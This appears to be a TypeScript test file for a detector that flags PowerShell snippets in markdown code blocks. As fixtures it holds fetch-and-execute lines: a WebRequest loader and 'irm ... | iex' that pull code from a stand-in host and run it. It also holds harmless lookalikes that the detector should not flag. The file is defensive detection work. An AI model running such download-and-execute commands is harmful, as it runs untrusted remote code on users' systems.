import { expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

const loader = [
  '$request = [Net.WebRequest]::Create("https://x.example/a")',
  "$response = $request.GetResponse()",
  "$reader = New-Object IO.StreamReader($response.GetResponseStream())",
  "$code = $reader.ReadToEnd()",
  "iex $code",
];

it("PowerShell quotes that are unbalanced in a shell are not a limit", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
  expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
});

/** Statements that the grammar cannot parse. */
const refused = [
  "Get-Process | Select-Object Name, Id",
  "if ($size -gt 4GB) { $size }",
  ":next foreach ($a in $list) { break next }",
  "Get-ChildItem $HOME/a.b -Force",
  'Write-Host "$a#$b"',
  '"Free: $($disk / 1GB)"',
  "$d = $a - $b",
];

it.each(refused)("%s is read, and the following text", async (statement) => {
  const detector = await createNodeDetector({ profile: "extended" });
  const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
  const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
  const harmless = detector.detect(script("$c = irm https://x.example/a.ps1\necho $c"));
  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
});

it("a member after parentheses is not an unterminated string in the contract profile", async () => {
  const detector = await createNodeDetector({ profile: "contract" });
  const script = [
    '$order = "size"',
    '$list = (Invoke-WebRequest "https://x.example/q?o=$order" -UserAgent "curl").Content | ConvertFrom-Csv',
    "foreach ($one in $list) { Write-Host $one.name }",
  ];
  const { labels, outcome } = detector.detect(`\`\`\`powershell\n${script.join("\n")}\n\`\`\`\n`);
  expect([labels, outcome]).toEqual([[], { status: "complete" }]);
});
